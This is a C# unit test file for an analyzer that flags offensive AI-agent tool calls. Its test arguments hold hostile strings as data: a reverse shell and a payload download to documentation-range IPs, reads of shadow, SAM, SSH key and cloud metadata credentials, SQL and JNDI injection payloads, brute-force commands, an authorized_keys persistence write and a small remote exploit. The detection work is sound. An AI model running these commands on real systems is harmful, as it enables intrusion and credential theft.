using System.Text.Json;
using Parry.Agents.Analysis;
using Parry.Agents.Calls;

namespace Parry.Agents.Tests.Analysis;

/// <summary>Tool calls as MCP servers receive them: the tool name and JSON arguments, hand-written.</summary>
public class ToolCallArgumentsTests
{
    private static ToolCallAnalysis Analyze(string tool, string arguments)
    {
        using var document = JsonDocument.Parse(arguments);
        return ToolCallAnalyzer.Default.Analyze(new ToolCall { Tool = tool, Arguments = document.RootElement.Clone() });
    }

    [Fact]
    public void Shell_tool_command_argument()
    {
        var analysis = Analyze("execute_command", """{"command": "nmap -sV -p 1-1000 10.10.10.0/24", "timeout": 300}""");
        analysis.Categories.ShouldContain("network-scan");
        analysis.Targets.ShouldHaveSingleItem().Value.ShouldBe("10.10.10.0/24");
    }

    [Fact]
    public void Shell_tool_with_an_input_argument()
    {
        Analyze("terminal", """{"input": "cat /etc/shadow"}""").Categories.ShouldContain("sensitive-file");
    }

    [Fact]
    public void PowerShell_tool_parses_PowerShell()
    {
        var analysis = Analyze("run_powershell", """{"script": "Get-LocalUser; (New-Object Net.WebClient).DownloadFile('http://203.0.113.8/x.exe','C:\\x.exe')"}""");
        analysis.Programs.ShouldContain("get-localuser");
        analysis.Targets.ShouldContain(t => t.Value == "203.0.113.8");
    }

    [Fact]
    public void Program_and_argument_vector()
    {
        var analysis = Analyze("process_exec", """{"command": "hydra", "args": ["-l", "root", "-P", "rockyou.txt", "ssh://10.0.0.9"]}""");
        analysis.Tools.ShouldBe(["hydra"]);
        analysis.Categories.ShouldContain("brute-force");
        analysis.Targets.ShouldContain(t => t.Value == "10.0.0.9");
    }

    [Fact]
    public void Tools_named_after_offensive_programs()
    {
        var analysis = Analyze("nmap_scan", """{"target": "scanme.nmap.org", "ports": "22,80", "scan_type": "-sV"}""");
        analysis.Tools.ShouldBe(["nmap"]);
        analysis.Categories.ShouldContain("network-scan");
        analysis.Targets.ShouldHaveSingleItem().Value.ShouldBe("scanme.nmap.org");
        analysis.Ports.ShouldBe(["22", "80"]);

        Analyze("sqlmapScan", """{"url": "http://10.0.0.5/a.php?id=1"}""").Categories.ShouldContain("sql-injection");
        Analyze("hydra_attack", """{"target": "10.0.0.5", "service": "ssh"}""").Categories.ShouldContain("brute-force");
    }

    [Fact]
    public void Common_words_in_tool_names_are_not_programs()
    {
        foreach (var tool in new[] { "get_user_id", "list_users", "run_query", "get_host_info", "search", "fetch" })
            Analyze(tool, "{}").Findings.ShouldBeEmpty(tool);
    }

    [Fact]
    public void Fetch_tool_with_an_injection_in_the_url()
    {
        var analysis = Analyze("fetch", """{"url": "http://shop.example.net/item?id=1' AND SLEEP(5)-- -", "max_length": 5000}""");
        analysis.Categories.ShouldContain("http-request");
        analysis.Categories.ShouldContain("sql-injection");
        analysis.SqlProbes.ShouldContain("time-delay");
        analysis.HttpMethods.ShouldBe(["GET"]);
    }

    [Fact]
    public void Http_request_tool_with_method_body_and_headers()
    {
        var analysis = Analyze("http_request", """
            {"url": "https://api.example.net/login", "method": "POST",
             "headers": {"X-Forwarded-For": "127.0.0.1", "User-Agent": "${jndi:ldap://203.0.113.9/a}"},
             "body": {"username": "admin' OR '1'='1", "password": "x"}}
            """);
        analysis.HttpMethods.ShouldBe(["POST"]);
        analysis.Categories.ShouldContain("web-attack");
        analysis.Categories.ShouldContain("sql-injection");
        analysis.SqlProbes.ShouldContain("tautology");
    }

    [Fact]
    public void Browser_navigation_to_metadata_service()
    {
        Analyze("browser_navigate", """{"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}""")
            .Categories.ShouldContain("credential-access");
    }

    [Fact]
    public void Database_tool_queries()
    {
        Analyze("execute_sql", """{"query": "SELECT id, name FROM users WHERE created_at > now() - interval '1 day'"}""").IsOffensive.ShouldBeFalse();
        Analyze("execute_sql", """{"query": "SELECT * FROM users WHERE name = '' OR 1=1 -- '"}""").SqlProbes.ShouldContain("tautology");
        Analyze("query", """{"sql": "SELECT load_file('/etc/passwd')"}""").SqlProbes.ShouldContain("file-or-command-access");
        Analyze("mssql", """{"statement": "EXEC xp_cmdshell 'whoami'"}""").Categories.ShouldContain("sql-injection");
    }

    [Fact]
    public void File_tools_and_sensitive_paths()
    {
        Analyze("read_file", """{"path": "/home/ubuntu/.ssh/id_ed25519"}""").SensitiveKinds.ShouldBe(["ssh-private-key"]);
        Analyze("read_file", """{"path": "/home/ubuntu/.ssh/id_ed25519.pub"}""").Findings.ShouldBeEmpty();
        Analyze("read_text_file", """{"path": "C:\\Windows\\System32\\config\\SAM"}""").Categories.ShouldContain("sensitive-file");
        var write = Analyze("write_file", """{"path": "/root/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA attacker"}""");
        write.Categories.ShouldContain("persistence");
        write.Findings.ShouldContain(f => f.Id == "ssh-authorized-keys:write");
        Analyze("read_file", """{"path": "src/app/main.py"}""").Findings.ShouldBeEmpty();
    }

    [Fact]
    public void Code_written_to_a_file_is_analysed()
    {
        var analysis = Analyze("write_file", """
            {"path": "exploit.py",
             "content": "from pwn import *\nr = remote('10.0.0.77', 31337)\nr.sendline(b'A'*72 + p64(0x40060d))\nr.interactive()\n"}
            """);
        analysis.Categories.ShouldContain("exploitation");
        analysis.Findings.ShouldContain(f => f.Id == "exploit-code-remote");
        analysis.Targets.ShouldContain(t => t.Value == "10.0.0.77" && t.Port == 31337);
        analysis.Tactics.ShouldContain("initial-access");
    }

    [Fact]
    public void Shell_scripts_written_to_files_are_command_lines()
    {
        Analyze("create_file", """{"file_path": "/tmp/run.sh", "text": "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n"}""")
            .Categories.ShouldContain("reverse-shell");
        Analyze("create_file", """{"file_path": "notes.md", "text": "nmap is a scanner"}""").IsOffensive.ShouldBeFalse();
    }

    [Fact]
    public void Code_that_runs_shell_commands()
    {
        var analysis = Analyze("python_exec", """{"code": "import os, subprocess\nos.system('cat /etc/shadow')\nsubprocess.run(['nmap', '-sS', '10.0.0.0/24'])"}""");
        analysis.Categories.ShouldContain("sensitive-file");
        analysis.Categories.ShouldContain("network-scan");
        analysis.Programs.ShouldContain("nmap");
    }

    [Fact]
    public void Host_and_port_arguments()
    {
        var analysis = Analyze("port_check", """{"host": "db01.corp, 10.0.0.8", "port": 5432, "targets": ["fe80::1", "user@203.0.113.4"]}""");
        analysis.Targets.Select(t => t.Value).ShouldBe(["db01.corp", "10.0.0.8", "fe80::1", "203.0.113.4"], ignoreOrder: true);
        analysis.Ports.ShouldBe(["5432"]);
        analysis.TargetClasses.ShouldBe(["internal", "private", "link-local", "documentation"], ignoreOrder: true);
    }

    [Fact]
    public void Unnamed_text_that_is_a_command_line()
    {
        Analyze("do_something", """{"x": "whoami && sudo -l"}""").Categories.ShouldBe(["discovery"]);
        Analyze("notes", """{"text_body": "remember to buy milk"}""").Findings.ShouldBeEmpty();
    }

    [Fact]
    public void Non_object_and_odd_arguments_do_not_throw()
    {
        foreach (var json in new[] { "null", "42", "\"nmap -sV 10.0.0.1\"", "[1,2,[3,[4]]]", "{\"a\":{\"b\":{\"c\":[]}}}", "true" })
            Should.NotThrow(() => Analyze("bash", json), json);
        Analyze("bash", "\"nmap -sV 10.0.0.1\"").Categories.ShouldContain("network-scan");
    }

    [Fact]
    public void Deeply_nested_arguments_are_bounded()
    {
        var json = string.Concat(Enumerable.Repeat("{\"a\":", 60)) + "\"cat /etc/shadow\"" + new string('}', 60);
        var analysis = Analyze("bash", json);
        analysis.Truncated.ShouldBeTrue();
    }

    [Fact]
    public void Analysis_of_a_call_without_arguments()
    {
        ToolCallAnalyzer.Default.Analyze(new ToolCall { Tool = "list_tools" }).ShouldNotBeNull().Findings.ShouldBeEmpty();
    }

    public static TheoryData<string> HostileText() =>
    [
        string.Concat(Enumerable.Repeat("\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", 4000)),
        string.Concat(Enumerable.Repeat("os.system(\"" + new string('a', 100), 2000)),
        string.Concat(Enumerable.Repeat("' or ", 20000)),
        string.Concat(Enumerable.Repeat("union select ", 20000)),
        string.Concat(Enumerable.Repeat("$(", 30000)),
        string.Concat(Enumerable.Repeat("a|", 100000)),
        string.Concat(Enumerable.Repeat("http://a", 50000)),
        string.Concat(Enumerable.Repeat("1.1.1.1.", 50000)),
        string.Concat(Enumerable.Repeat("..%2f", 50000)),
        string.Concat(Enumerable.Repeat("bash -c '", 5000)),
    ];

    [Theory]
    [MemberData(nameof(HostileText))]
    public async Task Hostile_arguments_finish_within_bounds(string text)
    {
        foreach (var (tool, key) in new[] { ("write_file", "content"), ("bash", "command"), ("execute_sql", "query"), ("fetch", "url"), ("tool", "value"), ("http_request", "body") })
        {
            var arguments = System.Text.Json.JsonSerializer.Serialize(new Dictionary<string, string> { [key] = text, ["url"] = "http://10.0.0.1/" });
            // A hang guard, not a timing assertion: the analysis is linear in its bounded input.
            await Task.Run(() => Analyze(tool, arguments)).WaitAsync(TimeSpan.FromSeconds(60));
        }
    }
}
